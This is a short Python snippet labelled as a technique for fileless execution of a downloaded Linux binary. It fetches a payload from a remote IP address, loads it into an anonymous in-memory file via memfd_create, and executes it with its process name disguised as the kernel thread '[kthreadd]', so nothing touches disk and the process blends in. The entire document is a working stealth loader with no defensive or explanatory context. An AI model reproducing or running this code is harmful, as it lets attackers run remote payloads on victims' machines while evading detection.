# technique: fileless execution of a downloaded ELF via memfd_create and execve of /proc/self/fd/N
import os, urllib.request
b = urllib.request.urlopen("http://203.0.113.5/agent").read()
fd = os.memfd_create("", 0)
os.write(fd, b)
os.execv("/proc/self/fd/%d" % fd, ["[kthreadd]"])
